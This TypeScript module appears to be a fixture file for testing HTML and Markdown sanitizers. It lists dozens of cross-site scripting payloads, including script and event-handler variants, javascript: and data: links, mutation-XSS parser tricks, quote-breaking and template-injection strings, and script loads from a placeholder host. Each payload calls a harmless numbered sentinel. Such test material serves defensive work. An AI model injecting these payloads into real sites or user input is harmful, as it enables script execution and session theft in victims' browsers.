// What somebody writes who wants a page to run it, wherever a page shows a text. Each one that runs calls `ran` with its number.

/** A host of nobody, for what is fetched instead of run. */
export const FETCHED_FROM = 'https://ran.example'

/** `N` stands for the number. */
const MARKUP = [
  // Scripts, however they are spelled.
  '<script>ran(N)</script>',
  '<ScRiPt/x>ran(N)</sCrIpT >',
  '<scr<script>ipt>ran(N)</scr</script>ipt>',
  '<svg><script>ran(N)</script></svg>',
  '<script src="https://ran.example/N"></script>',
  '<script type=module>ran(N)</script>',
  // Handlers.
  '<img src=x onerror=ran(N)>',
  '<img/src="x"/onerror="ran(N)">',
  '<IMG SRC=x: ONERROR=&#114;an(N)>',
  '<img srcset="x 1x" onerror=ran(N)>',
  '<picture><source srcset=x><img src=x onerror=ran(N)></picture>',
  '<svg onload=ran(N)>',
  '<svg><animate onbegin=ran(N) attributeName=x dur=1s>',
  '<body onload=ran(N)>',
  '<input autofocus onfocus=ran(N)>',
  '<details open ontoggle=ran(N)>x</details>',
  '<video><source src=x onerror=ran(N)></video>',
  '<style>@keyframes ran{}</style><b style="animation:ran 1s" onanimationstart=ran(N)>x</b>',
  '<b popover id=ran onbeforetoggle=ran(N)>x</b><button popovertarget=ran>x</button>',
  // Links and forms that run.
  '<a href="javascript:ran(N)">x</a>',
  '<a href=" jAvAsCrIpT&colon;ran(N)">x</a>',
  '<a href="java&#10;script:ran(N)">x</a>',
  '<a href="data:text/html,<script>opener.ran(N)</script>">x</a>',
  '<svg><a xlink:href="javascript:ran(N)"><text y=20>x</text></a></svg>',
  '<form action="javascript:ran(N)"><button>x</button></form>',
  '<form id=ran></form><button form=ran formaction="javascript:ran(N)">x</button>',
  // Pages within the page, and pages instead of it.
  '<iframe src="javascript:parent.ran(N)"></iframe>',
  '<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>',
  '<object data="data:text/html,<script>parent.ran(N)</script>"></object>',
  '<embed src="https://ran.example/N">',
  '<meta http-equiv=refresh content="0;url=https://ran.example/N">',
  '<base href="https://ran.example/N/">',
  '<link rel=stylesheet href="https://ran.example/N">',
  '<style>@import "https://ran.example/N";</style>',
  '<b style="background:url(javascript:ran(N));width:expression(ran(N))">x</b>',
  // What ends the text in which it stands.
  '</script><script>ran(N)</script>',
  '</title><script>ran(N)</script>',
  '</textarea><script>ran(N)</script>',
  '</style><script>ran(N)</script>',
  '</noscript></template><img src=x onerror=ran(N)>',
  '</option></select><img src=x onerror=ran(N)>',
  '--><img src=x onerror=ran(N)><!--',
  ']]><img src=x onerror=ran(N)>',
  '<!--<script>ran(N)</script>',
  // What becomes markup only when it is read, and written, and read again.
  '<noscript><p title="</noscript><img src=x onerror=ran(N)>">',
  '<svg></p><style><a id="</style><img src=x onerror=ran(N)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(N)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(N)>',
  '&lt;img src=x onerror=ran(N)&gt;',
  '\\u003cimg src=x onerror=ran(N)\\u003e',
]

/** Without a tag, so that also a name may hold it. */
const BROKEN_QUOTES = [
  '" onfocus="ran(N)" autofocus tabindex="0" x="',
  "' onfocus='ran(N)' autofocus tabindex='0' x='",
  '&quot; onfocus=&quot;ran(N)&quot; autofocus x=&quot;',
  '\u202e" onfocus=ran(N) autofocus "',
  '"}]};ran(N);//',
  "\\'});ran(N);//",
  '`+ran(N)+`',
  '\u2028ran(N)//',
  '$' + '{ran(N)}',
  "{{constructor.constructor('ran(N)')()}}",
  '<%= ran(N) %>',
  'javascript:ran(N)',
  'data:text/html,%3Cscript%3Eopener.ran(N)%3C/script%3E',
  '＜script＞ran(N)＜/script＞',
]

/** Begin as addresses do that a site may show. */
const LINKS = [
  '/x" onfocus="ran(N)" autofocus x="',
  "https://ran.example/N' onfocus='ran(N)' autofocus x='",
  'https://ran.example/N"><img src=x onerror=ran(N)>',
  '/x?</script><script>ran(N)</script>',
  '#"><svg onload=ran(N)>',
  'https://javascript:ran(N)@ran.example/N',
]

/** In a text that is written as Markdown. */
const MARKDOWN = [
  '[x](javascript:ran(N))',
  '[x](<JaVaScRiPt&colon;ran(N)>)',
  '[x](data:text/html,<script>opener.ran(N)</script>)',
  '![x](x"onerror="ran(N))',
  '<javascript:ran(N)>',
  '[x]\n\n[x]: javascript:ran(N) "\\" onmouseover=ran(N) \\""',
]

export const PAYLOADS: readonly string[] = [...MARKUP, ...BROKEN_QUOTES, ...LINKS, ...MARKDOWN]

/** Runs where a text is taken for markup or ends its attribute, whatever the payload behind it needs to run. */
const PLAINEST = `"'><img src=x onerror=ran(N)>`

export const numbered = (payload: string, number: number): string =>
  payload.replaceAll(/(?<=\(|example\/)N/g, String(number))

export const afterPlainest = (payload: string): string => `${PLAINEST} ${payload}`
